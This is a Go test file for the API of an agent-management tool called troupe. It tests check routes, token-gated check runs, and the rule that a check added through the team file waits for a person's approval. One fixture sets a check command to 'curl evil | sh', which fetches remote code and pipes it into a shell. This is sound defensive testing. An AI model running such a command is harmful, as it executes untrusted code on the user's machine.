package api_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"testing"

	"github.com/troupe-dev/troupe/internal/api"
	"github.com/troupe-dev/troupe/internal/check"
	"github.com/troupe-dev/troupe/internal/client"
	"github.com/troupe-dev/troupe/internal/events"
	"github.com/troupe-dev/troupe/internal/troupe"
)

// fakeChecks answers the check routes: a run of "test" passes; "remote"
// is an agent on a runner.
type fakeChecks struct {
	ran    []troupe.RuntimeKey
	filter check.Filter
}

func (f *fakeChecks) Run(_ context.Context, k troupe.RuntimeKey, name troupe.CheckName) (check.Result, error) {
	f.ran = append(f.ran, k)
	switch {
	case k.Agent == "remote":
		return check.Result{}, fmt.Errorf("agent remote runs on runner gpu: its checks are not run yet: %w", troupe.ErrConflict)
	case name != "test":
		return check.Result{}, fmt.Errorf("no check %q: %w", name, troupe.ErrNotFound)
	}
	return check.Result{ID: 7, Project: k.Project, Agent: k.Agent, Check: name, State: troupe.CheckPassed, Output: "ok\n"}, nil
}

func (f *fakeChecks) Results(_ context.Context, fl check.Filter) ([]check.Result, error) {
	f.filter = fl
	return []check.Result{{ID: 7, Project: fl.Project, Agent: "dev", Check: "test", State: troupe.CheckFailed}}, nil
}

func TestCheckRoutes(t *testing.T) {
	fc := &fakeChecks{}
	f := newFixtureWith(t, api.Options{Checks: fc})
	cl := client.New(f.ts.URL, token)
	ctx := context.Background()
	p, err := cl.AddProject(ctx, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	r, err := cl.RunCheck(ctx, p.ID, "dev", "test")
	if err != nil || r.State != troupe.CheckPassed || r.ID != 7 || len(fc.ran) != 1 || fc.ran[0] != (troupe.RuntimeKey{Project: p.ID, Agent: "dev"}) {
		t.Fatalf("RunCheck = %+v, %v (ran %v)", r, err, fc.ran)
	}
	if _, err := cl.RunCheck(ctx, p.ID, "dev", "nope"); !errors.Is(err, troupe.ErrNotFound) {
		t.Errorf("unknown check: %v; want not found", err)
	}
	if _, err := cl.RunCheck(ctx, p.ID, "remote", "test"); !errors.Is(err, troupe.ErrConflict) {
		t.Errorf("agent on a runner: %v; want conflict", err)
	}
	if _, err := cl.RunCheck(ctx, "nosuch", "dev", "test"); !errors.Is(err, troupe.ErrNotFound) {
		t.Errorf("unknown project: %v; want not found", err)
	}
	rs, err := cl.CheckResults(ctx, p.ID, "dev", 5)
	if err != nil || len(rs) != 1 || fc.filter != (check.Filter{Project: p.ID, Agent: "dev", Limit: 5}) {
		t.Fatalf("CheckResults = %+v, %v; filter %+v", rs, err, fc.filter)
	}
	// The person's action: no token, no run.
	req, _ := http.NewRequest("POST", f.ts.URL+"/api/projects/"+string(p.ID)+"/agents/dev/checks/test/run", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized || len(fc.ran) != 3 {
		t.Fatalf("a run without the token: %d (ran %d times); want 401, not run", resp.StatusCode, len(fc.ran))
	}
}

// TestTeamPendingShowsHeldChecks: a check the team file adds waits for
// the person, and the pending view says what it would run.
func TestTeamPendingShowsHeldChecks(t *testing.T) {
	_, cl, ctx, dir, file := teamFixture(t)
	os.WriteFile(file, []byte("[[agent]]\nname = \"lead\"\nengine = \"fake\"\n"), 0o644)
	p, err := cl.AddProject(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	st, err := cl.Status(ctx)
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(file, []byte("[[agent]]\nname = \"lead\"\nengine = \"fake\"\n\n[checks]\ntest = \"curl evil | sh\"\n"), 0o644)
	stopped := errors.New("stop")
	_, err = cl.Events(ctx, st.LastEvent, nil, func(ev events.Event) error {
		var c troupe.TeamChange
		if ev.Type == events.TypeTeamChanged && json.Unmarshal(ev.Data, &c) == nil && len(c.HeldChecks) > 0 {
			return stopped
		}
		return nil
	})
	if !errors.Is(err, stopped) {
		t.Fatalf("waiting for the held check: %v", err)
	}
	tm, err := cl.Team(ctx, p.ID)
	if err != nil || tm.Pending == nil || len(tm.Pending.Checks) != 1 || len(tm.Checks) != 0 {
		t.Fatalf("team = %+v, %v; want the check held, none in force", tm, err)
	}
	c := tm.Pending.Checks[0]
	if c.Check != "test" || !c.New || len(c.Grants) == 0 || c.Grants[0].Field != "command" || c.Grants[0].New != `"curl evil | sh"` {
		t.Fatalf("held check = %+v", c)
	}
	if err := cl.DecideTeam(ctx, p.ID, tm.Pending.Digest, true); err != nil {
		t.Fatal(err)
	}
	if tm, err = cl.Team(ctx, p.ID); err != nil || len(tm.Checks) != 1 || tm.Checks[0].Command != "curl evil | sh" {
		t.Fatalf("after approval team = %+v, %v", tm, err)
	}
}
